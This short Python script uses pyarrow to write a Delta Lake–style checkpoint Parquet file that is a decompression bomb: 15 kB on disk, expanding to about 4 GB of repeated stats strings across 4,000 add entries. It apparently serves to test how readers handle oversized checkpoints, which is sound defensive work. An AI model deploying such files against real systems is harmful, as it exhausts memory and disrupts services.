"""Makes bomb.checkpoint.parquet: 15 kB that say they are 4 GB of statistics, as one text of a dictionary that 4,000 files share.

Usage: make_bomb.py FILE, with pyarrow
"""

import json
import sys

import pyarrow as pa
import pyarrow.parquet as pq

fields = [{"name": "a", "type": "long", "nullable": True, "metadata": {}}]
metadata = {
    "id": "bomb",
    "format": {"provider": "parquet", "options": []},
    "schemaString": json.dumps({"type": "struct", "fields": fields}),
    "partitionColumns": [],
    "configuration": [],
}
text, texts = pa.string(), pa.map_(pa.string(), pa.string())
schema = pa.schema(
    {
        "protocol": pa.struct({"minReaderVersion": pa.int32(), "minWriterVersion": pa.int32()}),
        "metaData": pa.struct(
            {
                "id": text,
                "format": pa.struct({"provider": text, "options": texts}),
                "schemaString": text,
                "partitionColumns": pa.list_(text),
                "configuration": texts,
            }
        ),
        "add": pa.struct(
            {
                "path": text,
                "partitionValues": texts,
                "size": pa.int64(),
                "modificationTime": pa.int64(),
                "dataChange": pa.bool_(),
                "stats": text,
            }
        ),
    }
)
add = {"partitionValues": [], "size": 1, "modificationTime": 1, "dataChange": True, "stats": "x" * 1_000_000}
rows = [{"protocol": {"minReaderVersion": 1, "minWriterVersion": 2}}, {"metaData": metadata}]
rows += [{"add": {"path": f"p{number}", **add}} for number in range(4_000)]
pq.write_table(pa.Table.from_pylist(rows, schema), sys.argv[1], compression="zstd")
